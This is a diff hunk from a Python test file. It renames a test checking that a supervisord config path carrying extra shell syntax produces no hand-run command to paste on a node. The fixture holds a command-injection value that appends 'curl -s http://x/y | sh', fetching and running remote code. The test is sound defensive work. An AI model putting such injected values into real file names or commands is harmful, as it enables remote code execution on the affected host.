@@ -121,7 +121,7 @@ def test_r4b_a_program_that_rewrites_its_environ_names_another_program(proc, mon
 
 # ---- R5: a supervisord -c path goes unquoted into the hand-run command the result prints for the NODE's shell
 
-def test_r5_the_printed_hand_stop_quotes_what_a_container_chose(proc, monkeypatch, tmp_path):
+def test_r5_a_supervisord_config_that_is_no_plain_path_gives_no_set_and_nothing_to_paste(proc, monkeypatch, tmp_path):
     container(proc)
     conf = "/etc/s.conf; curl -s http://x/y | sh; true"
     proc.add(110, comm="supervisord", ppid=100, cgroup=SUPERVISOR, nspid=[110, 10],
